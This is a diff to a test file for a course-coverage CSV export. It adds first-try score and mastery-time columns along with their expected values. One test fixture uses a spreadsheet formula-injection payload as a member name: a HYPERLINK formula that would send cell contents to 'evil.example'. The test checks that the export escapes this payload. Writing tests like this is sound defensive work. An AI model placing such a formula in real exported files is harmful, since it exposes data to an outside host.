@@ -39,6 +39,7 @@ const REPORTS: readonly MemberReport[] = [
     lessonsDone: 11,
     correct: 24,
     answered: 26,
+    masteredAt: '2026-11-05T11:58:00.000Z',
     acknowledgedVersion: 'v2026-11',
     acknowledgedAt: '2026-11-05T12:00:00.000Z',
     lastActivityAt: '2026-11-05T12:00:00.000Z',
@@ -48,6 +49,8 @@ const REPORTS: readonly MemberReport[] = [
   report(member('=HYPERLINK("https://evil.example/?d="&A2,"Click me")', { email: 'mallory@contoso.example', department: '+31 20 123', role: '@SUM(A1:A9)' }), {
     status: 'in-progress',
     lessonsDone: 3,
+    correct: 1,
+    answered: 3,
     due: '2026-11-01',
     overdue: true,
     reachable: false,
@@ -70,6 +73,8 @@ const HEADERS = [
   'Lessons in course',
   'Correct answers',
   'Questions answered',
+  'First-try score',
+  'Mastered at (UTC)',
   'Acknowledged version',
   'Acknowledged at (UTC)',
   'Last activity (UTC)',
@@ -109,6 +114,8 @@ describe('the coverage export', () => {
       '11',
       '24',
       '26',
+      '92%',
+      '2026-11-05T11:58:00.000Z',
       'v2026-11',
       '2026-11-05T12:00:00.000Z',
       '2026-11-05T12:00:00.000Z',
@@ -116,8 +123,12 @@ describe('the coverage export', () => {
       '',
     ]);
     expect(data[1]?.slice(4, 8)).toEqual(['yes', 'in progress', '2026-11-01', 'yes']);
-    expect(data[1]?.slice(15)).toEqual(['no', "'-403 ConversationBlockedByUser"]);
-    expect(data[2]?.[15]).toBe('');
+    // Answered three, one right first time, not every question right yet.
+    expect(data[1]?.slice(10, 14)).toEqual(['1', '3', '33%', '']);
+    expect(data[1]?.slice(17)).toEqual(['no', "'-403 ConversationBlockedByUser"]);
+    // Nothing answered: no score rather than 0%.
+    expect(data[2]?.slice(10, 14)).toEqual(['0', '0', '', '']);
+    expect(data[2]?.[17]).toBe('');
     expect(data[3]?.slice(0, 6)).toEqual(['Said "Quote"\non two lines', 'saidquoteontwolines@contoso.example', 'Facilities', 'Receptionist', 'no', 'not started']);
   });
 
@@ -135,6 +146,7 @@ describe('the coverage export', () => {
     expect(header?.slice(0, 8)).toEqual(['Naam', 'E-mail', 'Afdeling', 'Functie', 'In personeelsbestand', 'Status', 'Uiterlijk', 'Te laat']);
     expect(first?.slice(2, 8)).toEqual(['Sales, North', 'Office manager', 'ja', 'afgerond', '2026-11-20', 'nee']);
     expect(second?.[0]).toBe('\'=HYPERLINK("https://evil.example/?d="&A2,"Click me")');
+    expect(header?.slice(12, 14)).toEqual(['Score eerste poging', 'Alles goed beantwoord op (UTC)']);
   });
 
   it('is just the header line when there is nobody to list', () => {
